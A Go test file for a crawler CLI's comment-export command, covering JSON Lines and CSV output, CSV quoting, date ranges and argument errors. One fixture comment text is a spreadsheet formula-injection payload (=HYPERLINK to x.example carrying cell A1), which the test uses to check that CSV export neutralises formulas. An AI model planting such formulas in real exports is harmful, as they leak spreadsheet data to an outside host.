package main

import (
	"bufio"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/blackwidow-crawl/blackwidow/api"
	"github.com/blackwidow-crawl/blackwidow/e2e/clustertest"
	"github.com/blackwidow-crawl/blackwidow/internal/fakes/feedserver"
	"github.com/blackwidow-crawl/blackwidow/internal/testkit"
	"github.com/blackwidow-crawl/blackwidow/pkg/commentexport"
)

// TestRun_CommentsExport exports a crawler whose comments span three days
// through a cluster, a few comments a page, in both formats.
func TestRun_CommentsExport(t *testing.T) {
	old := exportPageSize
	exportPageSize = 4
	t.Cleanup(func() { exportPageSize = old })

	cl := clustertest.New(t, clustertest.Options{Spawns: 2, Timings: timings})
	hub := cl.Hub.URL()
	ctx := context.Background()
	// Ten stories on each of three days; some texts need CSV quoting.
	day0 := time.Now().UTC().Truncate(24*time.Hour).AddDate(0, 0, -3).Add(9 * time.Hour)
	texts := []string{`=HYPERLINK("http://x.example/?"&A1,"open")`, `with, a comma`, `with "quotes"`, "with a\nline break", `,"mixed",` + "\r\n"}
	for d := range 3 {
		for i := range 10 {
			cl.Feeds.Publish("news", feedserver.Item{GUID: fmt.Sprintf("d%d-%d", d, i), Title: texts[i%len(texts)],
				Author: "alice, bob", Published: day0.AddDate(0, 0, d).Add(time.Duration(i) * time.Minute)})
		}
	}
	bwctl(t, hub, "user", "add", "acme").ok(t)
	cr := decodeJSON[api.Crawler](t, bwctl(t, hub, "crawler", "add", "--user", "1", "--source", "rss", "--query", cl.FeedURL("news"), "--json").ok(t).stdout)
	testkit.WaitFor(t, clustertest.WaitTimeout, "usage 30", func() bool {
		c, err := cl.Client.GetCrawler(ctx, cr.ID)
		return err == nil && c.Usage == 30
	})
	usage := func() int64 {
		c, err := cl.Client.GetCrawler(ctx, cr.ID)
		if err != nil {
			t.Fatal(err)
		}
		return c.Usage
	}

	// JSON Lines: as many comments as the crawler's usage, each once, as
	// stored; the progress goes to stderr.
	r := bwctl(t, hub, "comments", "export", itoa(cr.ID))
	if r.code != 0 || !strings.HasPrefix(r.stderr, "export: crawler 1: 30 comments in ") {
		t.Fatalf("export: exit %d, stderr %q", r.code, r.stderr)
	}
	var got []api.Comment
	sc := bufio.NewScanner(strings.NewReader(r.stdout))
	for sc.Scan() {
		var c api.Comment
		if err := json.Unmarshal(sc.Bytes(), &c); err != nil {
			t.Fatalf("line %q: %v", sc.Text(), err)
		}
		got = append(got, c)
	}
	if int64(len(got)) != usage() {
		t.Fatalf("exported %d comments, usage is %d", len(got), usage())
	}
	ids := map[string]bool{}
	for i, c := range got {
		if ids[c.ID] || c.CrawlerID != cr.ID {
			t.Fatalf("comment %d: %+v (a repeat, or another crawler's)", i, c)
		}
		ids[c.ID] = true
		if i > 0 && c.PublishedAt.UTC().Format(time.DateOnly) < got[i-1].PublishedAt.UTC().Format(time.DateOnly) {
			t.Fatalf("comment %s comes after a later day's", c.ID)
		}
	}

	// CSV: a header and one record per comment, quoted so that a reader
	// gets every field back, formulas neutralised.
	out := bwctl(t, hub, "comments", "export", itoa(cr.ID), "--format", "csv").ok2(t).stdout
	records, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not parse: %v\n%s", err, out)
	}
	if !slices.Equal(records[0], commentexport.Header) || len(records) != 31 {
		t.Fatalf("CSV has header %v and %d rows", records[0], len(records)-1)
	}
	byID := map[string]api.Comment{}
	for _, c := range got {
		byID[c.ID] = c
	}
	for _, rec := range records[1:] {
		c := byID[rec[0]]
		if rec[3] != "alice, bob" || rec[11] != commentexport.Neutralise(c.Text) || rec[4] != c.PublishedAt.UTC().Format(time.RFC3339Nano) {
			t.Fatalf("CSV record %q, stored %+v", rec, c)
		}
	}
	if !strings.Contains(out, `"'=HYPERLINK(""http://x.example/?""&A1,""open"")"`) {
		t.Fatalf("CSV has a formula cell as it came:\n%s", out)
	}
	if !strings.Contains(out, `"alice, bob"`) || !strings.Contains(out, `""quotes""`) {
		t.Fatalf("CSV fields are not quoted:\n%s", out)
	}

	// A range: the middle day only, given as days.
	mid := day0.AddDate(0, 0, 1).Truncate(24 * time.Hour)
	out = bwctl(t, hub, "comments", "export", itoa(cr.ID), "--since", mid.Format(time.DateOnly), "--until", mid.AddDate(0, 0, 1).Format(time.RFC3339)).ok2(t).stdout
	if n := strings.Count(out, "\n"); n != 10 || !strings.Contains(out, `"id":"d1-0"`) || strings.Contains(out, `"id":"d0-`) {
		t.Fatalf("the middle day exported %d lines:\n%s", n, out)
	}
}

// ok2 is ok for commands that report progress on stderr: it fails unless
// the run succeeded, and shows stderr only then.
func (r result) ok2(t *testing.T) result {
	t.Helper()
	if r.code != 0 || strings.HasPrefix(r.stderr, "bwctl:") {
		t.Fatalf("exit %d, stderr %q", r.code, r.stderr)
	}
	return r
}

func TestRun_CommentsExportRefusals(t *testing.T) {
	cl := clustertest.New(t, clustertest.Options{Spawns: 1, Timings: timings})
	hub := cl.Hub.URL()
	tests := []struct {
		name string
		args []string
		code int
		want string
	}{
		{"unknown crawler", []string{"comments", "export", "99"}, exitFail, "bwctl: crawler 99 not found (404)\n"},
		{"bad id", []string{"comments", "export", "x"}, exitUsage, "bwctl: crawler ID must be a positive integer"},
		{"bad format", []string{"comments", "export", "1", "--format", "xml"}, exitUsage, "bwctl: --format must be one of jsonl, csv"},
		{"bad since", []string{"comments", "export", "1", "--since", "yesterday"}, exitUsage, "bwctl: --since must be an RFC 3339 time"},
		{"empty range", []string{"comments", "export", "1", "--since", "2024-05-02", "--until", "2024-05-01"}, exitUsage, "bwctl: --since must be before --until"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := bwctl(t, hub, tt.args...)
			if r.code != tt.code || !strings.HasPrefix(r.stderr, tt.want) || strings.Count(r.stderr, "\n") != 1 || r.stdout != "" {
				t.Fatalf("exit %d, stderr %q, stdout %q; want exit %d and %q", r.code, r.stderr, r.stdout, tt.code, tt.want)
			}
		})
	}
}
